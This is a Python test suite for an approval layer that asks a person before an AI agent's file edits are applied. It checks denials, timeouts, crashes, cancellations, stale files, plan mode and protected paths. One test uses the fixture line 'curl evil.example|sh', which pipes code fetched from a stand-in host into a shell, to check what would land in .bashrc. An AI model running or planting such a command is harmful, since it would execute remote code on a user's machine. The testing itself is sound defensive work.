"""Changes that a person is asked about, with a real client and a real agent at the two ends of a pipe."""

import asyncio
import hashlib
import json
import signal

import pytest
from acp.exceptions import RequestError
from acp.schema import AllowedOutcome, RequestPermissionResponse

from front.acp.editor import Editor, Json, choosing, closing, run, silent
from front.acp.place import Place, call
from front.mcp.client import StdioClient, surehold
from spec.marks import requirement


def test_an_allowed_edit_is_announced_asked_about_run_and_reported(place: Place) -> None:
    before = place.put("src/a.py", "one = 1\ntwo = 2\n").read_bytes()

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_once")) as editor:
            assert await editor.say(place.edit("src/a.py", ("two = 2", "two = 3"))) == "end_turn"

            after = b"one = 1\ntwo = 3\n"
            assert place.get("src/a.py") == after
            pending, running, completed = editor.events
            (question,) = editor.questions
            path = str(place.root / "src/a.py")
            assert (pending["title"], pending["kind"], pending["status"]) == (
                "Edit src/a.py (1 edit)",
                "edit",
                "pending",
            )
            assert pending["locations"] == [{"path": path}]
            assert question["toolCall"]["content"][0] == {
                "type": "diff",
                "path": path,
                "oldText": before.decode(),
                "newText": after.decode(),
            }
            assert question["_meta"]["surehold/plan"]["files"] == [
                {
                    "path": "src/a.py",
                    "toPath": None,
                    "beforeSha256": hashlib.sha256(before).hexdigest(),
                    "afterSha256": hashlib.sha256(after).hexdigest(),
                }
            ]
            assert running == {
                "sessionUpdate": "tool_call_update",
                "toolCallId": pending["toolCallId"],
                "status": "in_progress",
            }
            assert completed["status"] == "completed"
            assert completed["locations"] == [{"path": path, "line": 2}]
            assert completed["rawOutput"]["data"]["changeId"] == completed["_meta"]["surehold/change"]
            assert editor.message.startswith("Done. edit_file: ")

    run(scenario())


def test_the_question_stands_between_the_announcement_and_the_run(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_once")) as editor:
            await editor.say(place.edit("a.txt", ("one", "two")))
            words = [
                one["params"].get("update", {}).get("status", one["method"])
                for one in editor.received
                if "method" in one
                and one["params"].get("update", {}).get("sessionUpdate") != "available_commands_update"
            ]
            assert words == [
                "pending",
                "session/request_permission",
                "in_progress",
                "completed",
                "session/update",  # the message at the end
            ]

    run(scenario())


async def _broken(editor: Editor, question: Json) -> RequestPermissionResponse:
    raise RequestError(-32601, "Method not found")


async def _nonsense(editor: Editor, question: Json) -> RequestPermissionResponse:
    return {"outcome": {"outcome": "perhaps"}}  # pyright: ignore[reportReturnType]


def test_whatever_is_not_a_clear_yes_changes_nothing(place: Place) -> None:
    place.put("a.txt", "one\n")
    answers = [
        (choosing("reject_once"), "approval_denied"),
        (closing, "approval_denied"),
        (choosing("allow-everything"), "approval_denied"),
        (_broken, "approval_failed"),
        (_nonsense, "approval_failed"),
    ]

    async def scenario() -> None:
        async with place.editor() as editor:
            for answer, reason in answers:
                editor.answer = answer
                assert await editor.say(place.edit("a.txt", ("one", "two"))) == "end_turn"
                assert editor.statuses[-2:] == ["pending", "failed"]
                error = editor.events[-1]["rawOutput"]["error"]
                assert (error["kind"], error["reason"]) == ("permission_denied", reason)
                assert editor.message.startswith("Failed. edit_file: ")
            assert len(editor.questions) == len(answers)

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_a_client_that_never_answers_is_waited_for_no_longer_than_was_chosen(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor("--ask-seconds", "0.2", answer=silent) as editor:
            await editor.say(place.edit("a.txt", ("one", "two")))
            error = editor.events[-1]["rawOutput"]["error"]
            assert (error["reason"], error["message"]) == ("approval_timeout", "No answer came within 0.2 seconds.")
            assert await editor.say(call("read_file", path="a.txt")) == "end_turn"
            assert editor.statuses[-1] == "completed"

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_a_client_that_leaves_during_the_question_leaves_the_file_as_it_was(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=silent) as editor:
            turn = asyncio.ensure_future(editor.say(place.edit("a.txt", ("one", "two"))))
            await editor.wait_until_asked()
            assert editor.process.stdin
            editor.process.stdin.close()
            assert await asyncio.wait_for(editor.process.wait(), 30) == 0
            with pytest.raises(ConnectionError):
                await turn

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_a_client_that_crashes_during_the_question_leaves_the_file_as_it_was(place: Place) -> None:
    place.put("a.txt", "one\n")
    client = StdioClient(surehold("acp", place.root, "--state-dir", place.state), handshake=False)
    client.request("initialize", {"protocolVersion": 1})
    session = client.request("session/new", {"cwd": str(place.root), "mcpServers": []})["sessionId"]
    prompt = [{"type": "text", "text": place.edit("a.txt", ("one", "two"))}]
    client.start("session/prompt", {"sessionId": session, "prompt": prompt})
    client.wait_for(lambda seen: any(one["method"] == "session/request_permission" for one in seen))

    client.hang_up()

    assert (client.wait(), client.junk) == (0, [])
    assert "Traceback" not in client.errors()
    assert place.get("a.txt") == b"one\n"


@pytest.mark.parametrize(("number", "code"), [(signal.SIGTERM, 0), (signal.SIGINT, 130)])
def test_a_signal_ends_it_also_during_a_question(place: Place, number: signal.Signals, code: int) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=silent) as editor:
            turn = asyncio.ensure_future(editor.say(place.edit("a.txt", ("one", "two"))))
            await editor.wait_until_asked()
            editor.process.send_signal(number)
            assert await asyncio.wait_for(editor.process.wait(), 30) == code
            with pytest.raises(ConnectionError):
                await turn

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_a_file_that_changes_between_question_and_answer_is_not_overwritten(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def answer(editor: Editor, question: Json) -> RequestPermissionResponse:
        place.put("a.txt", "one, from somebody else\n")
        return RequestPermissionResponse(outcome=AllowedOutcome(outcome="selected", option_id="allow_once"))

    async def scenario() -> None:
        async with place.editor(answer=answer) as editor:
            await editor.say(place.edit("a.txt", ("one", "two")))
            error = editor.events[-1]["rawOutput"]["error"]
            assert (error["kind"], error["reason"]) == ("stale_file", "changed_while_asked")

    run(scenario())
    assert place.get("a.txt") == b"one, from somebody else\n"


def test_allow_always_asks_once(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_always")) as editor:
            await editor.say(place.edit("a.txt", ("one", "two")))
            await editor.say(place.edit("a.txt", ("two", "three")))
            assert len(editor.questions) == 1
            assert editor.statuses == ["pending", "in_progress", "completed"] * 2
            await editor.conn.set_session_mode(session_id=editor.session, mode_id="default")
            await editor.say(place.edit("a.txt", ("three", "four")))
            assert len(editor.questions) == 2

    run(scenario())
    assert place.get("a.txt") == b"four\n"


def test_plan_mode_changes_nothing_and_asks_nobody(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_once")) as editor:
            await editor.conn.set_session_mode(session_id=editor.session, mode_id="plan")
            await editor.say(place.edit("a.txt", ("one", "two")))
            assert (editor.statuses, editor.questions) == (["pending", "failed"], [])
            assert editor.events[-1]["rawOutput"]["error"]["reason"] == "plan_mode"
            await editor.say("/edit a.txt one two")
            assert editor.message.startswith(
                f"Failed. multi_edit_text_file: Permission denied: {place.root}/a.txt. This is plan mode,"
            )

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_modes_that_do_not_ask_go_straight_from_pending_to_in_progress(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor("--mode", "acceptEdits") as editor:
            await editor.say(place.edit("a.txt", ("one", "two")))
            await editor.conn.set_session_mode(session_id=editor.session, mode_id="bypassPermissions")
            await editor.say(place.edit("a.txt", ("two", "three")))
            assert (editor.statuses, editor.questions) == (["pending", "in_progress", "completed"] * 2, [])

    run(scenario())
    assert place.get("a.txt") == b"three\n"


def test_a_protected_path_is_asked_about_in_accept_edits_too(place: Place) -> None:
    place.put(".gitconfig", "[user]\n")

    async def scenario() -> None:
        async with place.editor("--mode", "acceptEdits", answer=choosing("reject_once")) as editor:
            await editor.say(place.edit(".gitconfig", ("user", "alias")))
            assert editor.statuses == ["pending", "failed"]
            assert "is protected" in editor.questions[0]["_meta"]["surehold/plan"]["why"]

    run(scenario())
    assert place.get(".gitconfig") == b"[user]\n"


@requirement("approval:shown:moves")
def test_an_editor_shows_what_a_move_overwrites_and_all_that_a_protected_name_gets(place: Place) -> None:
    place.put("notes.txt", "curl evil.example|sh\n")
    place.put("old.txt", "one\n")
    sha256 = hashlib.sha256(b"curl evil.example|sh\n").hexdigest()

    async def scenario() -> None:
        async with place.editor(answer=choosing("reject_once")) as editor:
            move: Json = {"fromPath": "notes.txt", "expectedSha256": sha256}
            over: Json = {"overwrite": True, "expectedDestSha256": hashlib.sha256(b"one\n").hexdigest()}
            await editor.say(call("move_file", **move, **over, toPath="old.txt"))
            await editor.say(call("move_file", **move, toPath=".bashrc"))
            shown = [question["toolCall"]["content"] for question in editor.questions]
            new = {"type": "diff", "newText": "curl evil.example|sh\n"}
            assert shown[0][0] == {**new, "path": str(place.root / "old.txt"), "oldText": "one\n"}
            assert "notes.txt becomes old.txt, which is overwritten." in shown[0][1]["content"]["text"]
            assert shown[1][0] == {**new, "path": str(place.root / ".bashrc")}

    run(scenario())


def test_a_cancelled_turn_withdraws_its_question_and_writes_nothing(place: Place) -> None:
    place.put("a.txt", "one\n")

    async def scenario() -> None:
        async with place.editor(answer=silent) as editor:
            script = "\n".join([place.edit("a.txt", ("one", "two")), call("read_file", path="a.txt")])
            turn = asyncio.ensure_future(editor.say(script))
            await editor.wait_until_asked()
            await editor.conn.cancel(session_id=editor.session)
            assert await turn == "cancelled"
            assert editor.statuses == ["pending", "failed"]
            assert editor.message.endswith("1 more call was not run, since the turn was cancelled.")

    run(scenario())
    assert place.get("a.txt") == b"one\n"


def test_a_long_text_in_the_arguments_is_cut_and_marked_in_the_events_only(place: Place) -> None:
    text = "x" * 20_000 + "\n"

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_once")) as editor:
            await editor.say(call("create_file", path="long.txt", content=text))
            for shown in (editor.events[0]["rawInput"], editor.questions[0]["toolCall"]["rawInput"]):
                assert shown["path"] == "long.txt"
                assert shown["content"] == "x" * 10_240 + "\n[9,761 more bytes are not shown]"

    run(scenario())
    assert place.get("long.txt") == text.encode()


@requirement("approval:shown:form")
def test_what_the_editor_does_not_show_is_named_in_the_answer_or_refused(place: Place) -> None:
    text = "a line of the data\n" * 40_000

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_always")) as editor:
            await editor.say(call("create_file", path="long.txt", content=text))
            offered = [(one["optionId"], one["name"]) for one in editor.questions[0]["options"]]
            assert offered == [("allow_once", "Allow 40,000 unseen lines"), ("reject_once", "Reject")]
            assert not (place.root / "long.txt").exists(), "what was not offered was taken for a yes"
            editor.answer = choosing("allow_once")
            await editor.say(call("create_file", path="long.txt", content=text))
            assert place.get("long.txt") == text.encode()
            await editor.say(call("create_file", path=".bashrc", content=text))
            assert editor.events[-1]["rawOutput"]["error"]["reason"] == "cannot_be_shown"
            assert len(editor.questions) == 2

    run(scenario())
    assert not (place.root / ".bashrc").exists()


def test_an_edit_of_a_large_file_makes_small_messages(place: Place) -> None:
    place.put("large.txt", "".join(f"line {number}\n" for number in range(300_000)))

    async def scenario() -> None:
        async with place.editor(answer=choosing("allow_once")) as editor:
            await editor.say(place.edit("large.txt", ("line 150000\n", "line 150,000\n")))
            assert editor.statuses[-1] == "completed"
            assert max(len(json.dumps(one)) for one in editor.received) < 10_000
            (diff, _) = editor.questions[0]["toolCall"]["content"]
            assert diff["oldText"].splitlines()[3] == "line 150000"
            assert diff["_meta"] == {"surehold/lines": {"oldStart": 149998, "newStart": 149998}}

    run(scenario())
